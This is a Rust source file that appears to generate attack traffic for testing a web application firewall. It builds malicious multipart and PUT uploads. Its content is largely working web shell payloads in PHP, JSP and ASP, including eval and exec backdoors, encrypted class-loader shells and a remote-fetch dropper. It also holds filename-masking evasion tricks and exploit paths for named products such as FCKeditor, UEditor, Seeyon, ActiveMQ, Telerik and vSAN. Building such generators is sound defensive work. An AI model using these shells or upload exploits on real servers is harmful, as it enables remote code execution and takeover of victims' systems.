//! Web shells, as forms, by methods and through published holes of products.

use medward_waf::AttackClass;

use super::super::super::attack::{AttackGrammar, request};
use super::super::super::codec;
use super::super::super::encode::Encoding::{Base64, Case, Comment, JsEscape, Plain};
use super::super::super::place::Place;
use super::super::super::rng::Rng;
use super::super::super::wire::{Part, Wire, multipart};
use super::make::{Filler, Hole, Whole, agent, form, json, other, path, whole, xml};

pub(super) const ATTACKS: &[AttackGrammar] = &[
    request("upload-plain-shells", AttackClass::Upload, 40, plain),
    request("upload-masked-names", AttackClass::Upload, 40, masked),
    request("upload-known-editors", AttackClass::Upload, 38, editors),
    request("upload-by-other-ways", AttackClass::Upload, 36, |rng| whole(rng, OTHER)),
];

const PAGES: &[&str] = &[
    "/upload.php",
    "/upload/image.do",
    "/api/file/upload",
    "/common/upload",
    "/user/avatar",
    "/admin/upload.asp",
    "/emr/attachment/save",
    "/Handler/Upload.ashx",
];

const PHP: &[&str] = &[
    "<?php @eval($_POST['§w']);?>",
    "<?php system($_GET['§w']); ?>",
    "<?=`$_GET[§w]`?>",
    "<?php $f=base64_decode('⟨assert⟩');@$f($_POST['§w']);?>",
    "<?php $a='ass'.'ert';$a(${'_PO'.'ST'}['§w']);?>",
    "<?php class §v{function __destruct(){eval($this->x);}}$o=new §v;$o->x=$_POST['§w'];?>",
    "<script language='php'>@eval($_POST['§w']);</script>",
    "<?php @session_start();$k='§x';$p=file_get_contents('php://input');for($i=0;$i<strlen($p);$i++){$p[$i]=$p[$i]^$k[$i+1&7];}eval($p);?>",
    "<?php file_put_contents('§w.php',file_get_contents('http://§h/§w.txt'));?>",
    "<?php $c=create_function('',$_REQUEST['§w']);$c();?>",
    "<?php ($_=@$_GET[2]).@$_($_POST['§w'])?>",
];
const JSP: &[&str] = &[
    "<%Runtime.getRuntime().exec(request.getParameter(\"§w\"));%>",
    "<%@page import=\"java.io.*\"%><%Process p=Runtime.getRuntime().exec(request.getParameter(\"§w\"));BufferedReader r=new BufferedReader(new InputStreamReader(p.getInputStream()));String l;while((l=r.readLine())!=null){out.println(l);}%>",
    "<%@page import=\"java.util.*,javax.crypto.*,javax.crypto.spec.*\"%><%!class U extends ClassLoader{U(ClassLoader c){super(c);}public Class g(byte []b){return super.defineClass(b,0,b.length);}}%><%String k=\"§x§x\";session.putValue(\"u\",k);Cipher c=Cipher.getInstance(\"AES\");c.init(2,new SecretKeySpec(k.getBytes(),\"AES\"));new U(this.getClass().getClassLoader()).g(c.doFinal(new sun.misc.BASE64Decoder().decodeBuffer(request.getReader().readLine()))).newInstance().equals(pageContext);%>",
    "<%new java.io.FileOutputStream(application.getRealPath(\"/\")+\"§w.jsp\").write(request.getParameter(\"§w\").getBytes());%>",
    "<jsp:root xmlns:jsp=\"http://java.sun.com/JSP/Page\" version=\"1.2\"><jsp:scriptlet>Runtime.getRuntime().exec(request.getParameter(\"§w\"));</jsp:scriptlet></jsp:root>",
    "${\"\".getClass().forName(\"java.lang.Runtime\").getMethod(\"exec\",\"\".getClass()).invoke(null,param.§w)}",
    "<%=Class.forName(\"ja\"+\"va.lang.Run\"+\"time\").getMethod(\"getRuntime\").invoke(null)%><%/*§w*/%>",
    "<%\\u0052\\u0075\\u006e\\u0074\\u0069\\u006d\\u0065.getRuntime().exec(request.getParameter(\"§w\"));%>",
];
const ASP: &[&str] = &[
    "<%eval request(\"§w\")%>",
    "<%execute(request(\"§w\"))%>",
    "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"§w\"],\"unsafe\");%>",
    "<%@ Page Language=\"C#\"%><%System.Diagnostics.Process.Start(\"cmd.exe\",\"/c \"+Request[\"§w\"]);%>",
    "<%@ WebHandler Language=\"C#\" Class=\"H\" %>using System.Web;public class H:IHttpHandler{public void ProcessRequest(HttpContext c){System.Diagnostics.Process.Start(\"cmd\",c.Request[\"§w\"]);}public bool IsReusable{get{return false;}}}",
    "<%set s=server.createobject(\"wscript.shell\"):response.write s.exec(\"cmd /c \"&request(\"§w\")).stdout.readall%>",
    "<script runat=server language=vbscript>execute request(\"§w\")</script>",
    "<%@ Page Language=\"C#\"%><%System.Reflection.Assembly.Load(System.Convert.FromBase64String(Request[\"§w\"])).CreateInstance(\"U\").Equals(this);%>",
];

fn shell(rng: &mut Rng) -> (&'static str, String) {
    let (ending, templates) = rng.pick(&[("php", PHP), ("jsp", JSP), ("aspx", ASP), ("asp", &ASP[..2])]);
    let template = rng.pick(templates);
    (ending, Filler::new(rng).fill(rng, template))
}

fn sent(rng: &mut Rng, page: &str, parts: &[Part<'_>]) -> Vec<u8> {
    let (kind, body) = multipart(parts, rng);
    let wire = Wire::post(page, &kind, body);
    agent(rng, wire, Place::Multipart).finish(rng)
}

/// As it is, under its own name or with the head of a picture before it.
fn plain(rng: &mut Rng) -> Whole {
    let (ending, shell) = shell(rng);
    let head: &[u8] = rng.pick(&[
        b"".as_slice(),
        b"",
        b"",
        b"GIF89a\n",
        b"\xff\xd8\xff\xe0\x00\x10JFIF\x00",
        b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR",
        b"BM",
        b"%PDF-1.4\n",
    ]);
    let name = format!("{}.{ending}", rng.letters(6));
    let kind = rng.pick(&[
        "application/octet-stream",
        "image/jpeg",
        "image/png",
        "text/plain",
        "image/gif",
        "application/x-php",
    ]);
    let field = rng.pick(&["file", "upload", "Filedata", "uploadFile", "imgFile", "upfile"]);
    let parts = [Part::field("type", "image"), Part::file(field, &name, kind, [head, shell.as_bytes()].concat())];
    let page = rng.pick(PAGES);
    (sent(rng, page, &parts), Place::Multipart, Plain)
}

/// Names that the check and the server, or the parser of the form, read differently.
fn masked(rng: &mut Rng) -> Whole {
    let (ending, shell) = shell(rng);
    let stem = rng.letters(5);
    let page = rng.pick(PAGES);
    let boundary = format!("----WebKitFormBoundary{}", rng.token(16));
    let (disposition, encoding) = match rng.below(16) {
        0 => (format!("form-data; name=\"file\"; filename=\"{stem}.{ending}.\""), Plain),
        1 => (format!("form-data; name=\"file\"; filename=\"{stem}.{ending}::$DATA\""), Plain),
        2 => (format!("form-data; name=\"file\"; filename=\"{stem}.jpg\"; filename=\"{stem}.{ending}\""), Plain),
        3 => (format!("form-data; name=\"file\"; filename=\"{stem}.jpg\"; filename*=UTF-8''{stem}.{ending}"), Plain),
        4 => (format!("form-data; name=\"file\"; filename={stem}.{ending}"), Plain),
        5 => (format!("form-data; name=\"file\"; filename='{stem}.{ending}'"), Plain),
        6 => (format!("form-data; name=\"file\"; filename=\"{stem}.{}\"", mixed(rng, ending)), Case),
        7 => (format!("form-data; name=\"file\"; filename=\"{stem}.asp;.jpg\""), Plain),
        8 => (format!("form-data; name=\"file\"; filename=\"{stem}.{ending}%00.jpg\""), Plain),
        9 => (format!("form-data; name=\"file\"; filename=\"../../webapps/ROOT/{stem}.{ending}\""), Plain),
        10 => (
            format!(
                "form-data; name=\"file\"; filename=\"{stem}.{}\"",
                rng.pick(&[
                    "phtml", "php5", "pht", "phar", "jspx", "jspf", "ashx", "asmx", "cer", "asa", "shtml", "soap"
                ])
            ),
            Plain,
        ),
        11 => (format!("form-data; name=\"file\";\r\n filename=\"{stem}.{ending}\""), Plain),
        12 => (format!("form-data; name=\"file\"; filename=\"{stem}.\n{ending}\""), Plain),
        13 => (
            format!("form-data; name=\"file\"; filename=\"=?utf-8?B?{}?=\"", codec::base64(format!("{stem}.{ending}"))),
            Base64,
        ),
        14 => (format!("form-data; x=\"{}\"; name=\"file\"; filename=\"{stem}.{ending}\"", rng.token(400)), Comment),
        _ => (format!("ForM-dAtA; NAME=\"file\"; FileName=\"{stem}.{ending} \""), Case),
    };
    let (name, content) = match rng.below(8) {
        0 => (
            disposition.replace(&format!("{stem}.{ending}"), ".htaccess"),
            format!("AddType application/x-httpd-php .jpg\n# {stem}"),
        ),
        1 => (disposition.replace(&format!("{stem}.{ending}"), ".user.ini"), format!("auto_prepend_file={stem}.jpg\n")),
        _ => (disposition, shell),
    };
    let body = format!(
        "--{boundary}\r\nContent-Disposition: {name}\r\nContent-Type: image/jpeg\r\n\r\n{content}\r\n--{boundary}--\r\n"
    );
    let wire = Wire::post(page, &format!("multipart/form-data; boundary={boundary}"), body);
    (agent(rng, wire, Place::Multipart).finish(rng), Place::Multipart, encoding)
}

fn mixed(rng: &mut Rng, ending: &str) -> String {
    let all: String =
        ending.chars().map(|letter| if rng.chance(50) { letter.to_ascii_uppercase() } else { letter }).collect();
    if all == ending { ending.to_uppercase() } else { all }
}

/// Editors and products that keep what they get.
fn editors(rng: &mut Rng) -> Whole {
    let (ending, shell) = shell(rng);
    let word = rng.letters(5);
    let (page, field) = rng.pick(&[
        (
            "/FCKeditor/editor/filemanager/connectors/test.html?Command=FileUpload&Type=File&CurrentFolder=/x.asp",
            "NewFile",
        ),
        ("/fckeditor/editor/filemanager/upload/php/upload.php?Type=Media", "NewFile"),
        ("/kindeditor/php/upload_json.php?dir=file", "imgFile"),
        ("/ueditor/net/controller.ashx?action=uploadfile", "upfile"),
        ("/ewebeditor/upload.asp?action=save&type=image&style=popup&cusdir=a.asp", "uploadfile"),
        (
            "/general/data_center/utils/upload.php?action=upload&filetype=nmsl&repkid=/.%3C%3E./.%3C%3E./.%3C%3E./",
            "FILE1",
        ),
        ("/ispirit/im/upload.php", "ATTACHMENT"),
        ("/module/ueditor/php/action_upload.php?action=uploadfile", "mufile"),
        ("/page/exportImport/uploadOperation.jsp", "file"),
        ("/weaver/weaver.common.Ctrl/.css?arg0=com.cloudstore.api.service.Service_CheckApp&arg1=validateApp", "file1"),
        ("/workrelate/plan/util/uploaderOperate.jsp", "Filedata"),
        ("/aim/equipmap/accept.jsp", "upload"),
        ("/uapim/upload/grouptemplet?groupid=nc&fileType=jsp&maxSize=999", "upload"),
        ("/emap/devicePoint_addImgIco?hasSubsystem=true", "upload"),
        ("/eps/api/resourceOperations/upload", "fileUploader"),
        ("/center/api/files;.html", "file"),
        ("/defaultroot/upload/fileUpload.controller", "file"),
        ("/inc/jquery/uploadify/uploadify.php", "Filedata"),
        ("/general/index/UploadFile.php?m=uploadPicture&uploadType=eoffice_logo&userId=", "Filedata"),
        ("/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php", "upload[]"),
        ("/server/php/index.php", "files[]"),
        ("/index.php?option=com_media&task=file.upload", "Filedata[]"),
        ("/sites/all/modules/elfinder/connector.php?cmd=upload&target=l1_Lw", "upload[]"),
        ("/Telerik.Web.UI.WebResource.axd?type=rau", "file"),
        ("/struts2-showcase/upload.action", "Upload"),
    ]);
    let ending = if page.contains(".asp?") { "asp" } else { ending };
    let name = match rng.below(5) {
        0 => format!("../../../{word}.{ending}"),
        1 if page.contains("accept.jsp") => format!("..\\..\\webapps\\ROOT\\{word}.jsp"),
        2 => format!("{word}.{ending};.jpg"),
        _ => format!("{word}.{ending}"),
    };
    let parts = [
        Part::field("name", word.clone()),
        Part::field("cmd", "upload"),
        Part::file(field, &name, rng.pick(&["image/png", "application/octet-stream", "image/jpeg"]), shell),
    ];
    (sent(rng, page, &parts), Place::Multipart, Plain)
}

/// Methods, names in JSON, raw bodies and archives of products.
const OTHER: &[Hole] = &[
    other("PUT /§v.jsp/", "application/octet-stream", "<%Runtime.getRuntime().exec(request.getParameter(\"§w\"));%>"),
    other("PUT /§v.jsp%20", "text/plain", "<%out.print(§n*§n);Runtime.getRuntime().exec(request.getParameter(\"c\"));%>"),
    other("PUT /§v.jsp::$DATA", "text/plain", "<% out.println(new String(\"§x\"));%><%Runtime.getRuntime().exec(request.getParameter(\"a\"));%>"),
    other("PUT /§v.txt", "text/plain", "<%execute(request(\"§w\"))%>"),
    path("MOVE /§v.txt").with("Destination: /§v.asp;.jpg\nOverwrite: T").at(Place::Header),
    path("COPY /webdav/§v.txt").with("Destination: http://www.boai.example/webdav/§v.php").at(Place::Header),
    other("PUT /fileserver/§v.txt", "application/octet-stream", "<%@ page import=\"java.io.*\"%><%Runtime.getRuntime().exec(request.getParameter(\"§w\"));%>"),
    path("MOVE /fileserver/§v.txt").with("Destination: file:///opt/activemq/webapps/api/§v.jsp").at(Place::Header),
    other("/seeyon/htmlofficeservlet", "application/octet-stream", "DBSTEP V3.0     355             0               666             DBSTEP=OKMLlKlV\r\nOPTION=S3WYOSWLBSGr\r\ncurrentUserId=zUCTwigsziCAPLesw4gsw4oEwV66\r\nCREATEDATE=wUghPB3szB3Xwg66\r\nRECORDID=qLSGw4SXzLeGw4V3wUw3zUoXwid6\r\noriginalFileId=wV66\r\noriginalCreateDate=wUghPB3szB3Xwg66\r\nFILENAME=qfTdqfTdqfTdVaxJeAJQBRl3dExQyYOdNAlfeaxsdGhiyYlTcATdN1liN4KXwiVGzfT2dEg6\r\nneedReadFile=yRWZdAS6\r\n<%Runtime.getRuntime().exec(request.getParameter(\"§w\"));%>"),
    form("/ueditor/net/controller.ashx?action=catchimage", "source[]=«http://§h/§w.jpg?.aspx»"),
    form("/seeyon/autoinstall.do/..;/ajax.do?method=ajaxAction&managerName=formulaManager&requestCompress=gzip", "managerMethod=validate&arguments=«[\"§v.jsp\",\"<%Runtime.getRuntime().exec(request.getParameter(1));%>\"]»"),
    form("/general/system/database/sql.php", "sql=«select '<?php eval($_POST[§w]);?>' into outfile 'D:/MYOA/webroot/§v.php'»"),
    json("/api/upload/base64", "{\"fileName\":\"§v.php\",\"content\":\"⟨<?php @eval($_POST['§w']);?>⟩\"}").spelled(Base64),
    json("/mobile/uploadImage", "{\"name\":\"§v.jsp\",\"data\":\"data:image/png;base64,⟨<%Runtime.getRuntime().exec(request.getParameter(\"§w\"));%>⟩\"}").spelled(Base64),
    json("/api/template/save", "{\"path\":\"../../ROOT/§v.jsp\",\"body\":\"<%\\u0052untime.getRuntime().exec(request.getParameter(\\\"§w\\\"));%>\"}").spelled(JsEscape),
    form("/webroot/WebReport/ReportServer?op=svginit&cmd=design_save_svg&filePath=chartmapsvg/../../../../WebReport/§v.svg.jsp", "__CONTENT__=«{\"__CONTENT__\":\"<%Runtime.getRuntime().exec(request.getParameter(\\\"§w\\\"));%>\",\"__CHARSET__\":\"UTF-8\"}»"),
    xml("/services/FileUploadService", "<soapenv:Envelope xmlns:soapenv=\"http://schemas.xmlsoap.org/soap/envelope/\"><soapenv:Body><upload><fileName>../§v.jsp</fileName><data>⟨<%Runtime.getRuntime().exec(request.getParameter(\"§w\"));%>⟩</data></upload></soapenv:Body></soapenv:Envelope>").spelled(Base64),
    xml("/UploadFile.asmx", "<soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\"><soap:Body><SaveFile xmlns=\"http://tempuri.org/\"><name>§v.aspx</name><buffer>⟨<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"§w\"],\"unsafe\");%>⟩</buffer></SaveFile></soap:Body></soap:Envelope>").spelled(Base64),
    other("/upload?name=§v.jsp", "image/jpeg", "<%@page import=\"java.io.*\"%><%Runtime.getRuntime().exec(request.getParameter(\"§w\"));%>"),
    other("/ui/h5-vsan/rest/proxy/upload?name=../../§v.jsp", "application/octet-stream", "<%Runtime.getRuntime().exec(request.getParameter(\"§w\"));%>"),
    other("/documents/1/uploadAttachment?file=../../§v.php", "application/octet-stream", "<?php @eval($_POST['§w']);?>"),
    other("/developmentserver/metadatauploader?CONTENTTYPE=MODEL&CLIENT=1", "multipart/form-data; boundary=----b§v", "------b§v\r\nContent-Disposition: form-data; name=\"file\"; filename=\"§v.jsp\"\r\nContent-Type: application/octet-stream\r\n\r\n<%Runtime.getRuntime().exec(request.getParameter(\"§w\"));%>\r\n------b§v--\r\n").at(Place::Multipart),
    form("/e/class/moreups.php", "phome=LoadInMod&file=«§v.php.mod»&content=«<?php @eval($_POST['§w']);?>»"),
];
